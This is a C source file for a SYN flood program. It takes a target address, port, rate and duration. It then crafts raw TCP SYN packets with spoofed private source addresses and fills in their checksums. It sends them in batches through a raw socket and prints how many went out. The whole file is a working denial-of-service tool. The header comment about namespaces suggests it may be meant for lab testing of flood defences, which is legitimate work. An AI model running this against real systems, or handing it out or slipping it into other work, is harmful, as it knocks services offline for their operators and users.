/* A flood of SYNs from addresses that do not exist.
 *
 *     flood ADDR PORT A_SECOND SECONDS          prints how many left
 *
 * Needs a raw socket: root, or a namespace of one's own. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64, LENGTH = 44 };
static uint8_t packets[BATCH][LENGTH];

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + 1e-9 * (double)t.tv_nsec;
}

static uint16_t sum_of(const uint8_t *at, unsigned n, uint32_t sum)
{
    for (unsigned i = 0; i < n; i += 2)
        sum += (uint32_t)(at[i] << 8 | at[i + 1]);
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

static void put16(uint8_t *at, unsigned v) { at[0] = (uint8_t)(v >> 8), at[1] = (uint8_t)v; }

/* SYN number n: source 10.66.x.y, port and ISN by n; the MSS option. */
static void make(uint8_t p[LENGTH], const struct in_addr *to, uint16_t port, uint64_t n)
{
    uint64_t x = n * 0x9e3779b97f4a7c15u;
    static const uint8_t head[] = { 0x45, 0, 0, LENGTH, 0, 0, 0, 0, 64, IPPROTO_TCP };
    memset(p, 0, LENGTH);
    memcpy(p, head, sizeof head);
    p[12] = 10, p[13] = 66;
    put16(p + 14, (unsigned)(x >> 48));
    memcpy(p + 16, to, 4);
    put16(p + 20, 1024 + (unsigned)(x >> 20 & 0x7fff));
    put16(p + 22, port);
    put16(p + 24, (unsigned)(x >> 8 & 0xffff));
    put16(p + 26, (unsigned)n & 0xffff);
    p[32] = 6 << 4;
    p[33] = 2;
    put16(p + 34, 64240);
    p[40] = 2, p[41] = 4;
    put16(p + 42, 1460);
    uint32_t pseudo = IPPROTO_TCP + LENGTH - 20;
    for (unsigned i = 12; i < 20; i += 2)
        pseudo += (uint32_t)(p[i] << 8 | p[i + 1]);
    put16(p + 36, sum_of(p + 20, LENGTH - 20, pseudo));
}

int main(int argc, char **argv)
{
    struct sockaddr_in to = { .sin_family = AF_INET };
    struct mmsghdr m[BATCH];
    struct iovec v[BATCH];
    if (argc != 5 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
        return 2;
    double each = 1 / atof(argv[3]), start = now(), end = start + atof(argv[4]);
    int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (s < 0) {
        fprintf(stderr, "flood: %s\n", strerror(errno));
        return 1;
    }
    uint64_t sent = 0;
    for (double at = start; at < end; at = now()) {
        uint64_t due = (uint64_t)((at - start) / each);
        unsigned n = due - sent < BATCH ? (unsigned)(due - sent) : BATCH;
        for (unsigned i = 0; i < n; i++) {
            make(packets[i], &to.sin_addr, (uint16_t)atoi(argv[2]), sent + i);
            v[i] = (struct iovec){ packets[i], LENGTH };
            m[i] = (struct mmsghdr){ .msg_hdr = { .msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &v[i], .msg_iovlen = 1 } };
        }
        int did = n ? sendmmsg(s, m, n, 0) : 0;
        sent += did > 0 ? (uint64_t)did : 0;
        if (n < BATCH)
            nanosleep(&(struct timespec){ 0, 200000 }, NULL);
    }
    printf("sent=%llu seconds=%.3f\n", (unsigned long long)sent, now() - start);
    return 0;
}
